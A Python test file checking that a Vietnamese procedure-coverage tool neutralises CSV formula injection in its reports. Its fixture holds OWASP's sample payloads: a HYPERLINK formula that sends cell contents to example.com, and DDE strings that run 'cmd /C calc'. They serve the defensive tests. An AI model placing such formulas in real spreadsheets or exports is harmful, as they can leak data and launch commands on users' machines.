"""The CSV report against formula injection (OWASP "CSV Injection"): names and fields from an
imported list that a spreadsheet would run as formulas are written as text; and the text starts
with one UTF-8 byte-order mark, so that Excel reads the Vietnamese. Read back with the csv module."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from click.testing import CliRunner

from qrproc import board, report
from qrproc.catalogue import import_catalogue
from qrproc.cli import cli
from qrproc.model import Catalogue, Procedure
from qrproc.registry import Registry

AT = datetime(2026, 7, 1, 9, 0)
D0 = date(2026, 7, 1)
#: Names and fields as a hostile list would have them (the payloads from OWASP's page).
HOSTILE = {
    "1.000001": ('=HYPERLINK("http://example.com/?d="&A1,"Bấm vào đây")', "Hộ tịch"),
    "1.000002": ("+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"),
    "1.000003": ("-2+3+cmd|' /C calc'!A0", "Chứng thực"),
    "1.000004": ("@SUM(1+1)", "=1+1"),
    "1.000005": ("Đăng ký khai sinh = thủ tục thường gặp", "Hộ tịch"),  # '=' inside: left alone
}
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_db(tmp_path):
    db = tmp_path / "qrproc.db"
    reg = Registry(db)
    reg.set_settings({"unit": "UBND xã Mẫu", "province": "H31"}, at=AT)
    import_catalogue(reg, Catalogue("doc-hai.csv", tuple(
        Procedure(code=code, name=name, field=field, levels=("commune",))
        for code, (name, field) in HOSTILE.items())),
        effective=D0, at=AT)
    board.post_codes(reg, ["1.000001"], day=D0, at=AT)
    reg.close()
    return db


def rows_of(text: str) -> dict[str, dict]:
    assert text.startswith("\ufeffcode,") and text.count("\ufeff") == 1
    return {r["code"]: r for r in csv.DictReader(io.StringIO(text[1:], newline=""))}


def as_text(value: str) -> str:
    return "'" + value if value.startswith(FORMULA) else value


def test_formula_cells_are_written_as_text(hostile_db):
    reg = Registry(hostile_db)
    try:
        rows = rows_of(report.render_csv(board.coverage_report(reg, D0)))
    finally:
        reg.close()
    for code, (name, field) in HOSTILE.items():
        assert (rows[code]["name"], rows[code]["field"]) == (as_text(name), as_text(field)), code
    assert rows["1.000001"]["name"] == '\'=HYPERLINK("http://example.com/?d="&A1,"Bấm vào đây")'
    assert rows["1.000005"]["name"] == "Đăng ký khai sinh = thủ tục thường gặp"
    for row in rows.values():
        assert not any(v.startswith(FORMULA) for v in row.values()), row
    # Nothing else changed: states, dates and the column set.
    assert (rows["1.000001"]["state"], rows["1.000001"]["posted_on"]) == ("posted", "2026-07-01")
    assert rows["1.000002"]["state"] == "missing"
    assert tuple(next(iter(rows.values()))) == report.CSV_COLUMNS


@pytest.mark.parametrize("value, cell", [
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("=1", "'=1"), ("-", "'-"),
    ("1.000001", "1.000001"), ("2026-07-01", "2026-07-01"), (5, "5"), (None, ""), ("", ""),
    (" =1+1", " =1+1"),  # a leading space makes it text in the spreadsheet already
])
def test_each_cell(value, cell):
    assert report._cell(value) == cell


def test_the_csv_written_by_the_cli_is_neutralised_too(hostile_db, tmp_path):
    out = tmp_path / "bao-cao.csv"
    result = CliRunner().invoke(cli, ["--db", str(hostile_db), "report", "--as-of", "2026-07-01",
                                      "--format", "csv", "--out", str(out)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfcode,") and not raw.startswith(b"\xef\xbb\xbf" * 2)
    rows = rows_of(raw.decode("utf-8"))
    assert [rows[c]["name"][:2] for c in sorted(HOSTILE)] == ["'=", "'+", "'-", "'@", "Đă"]
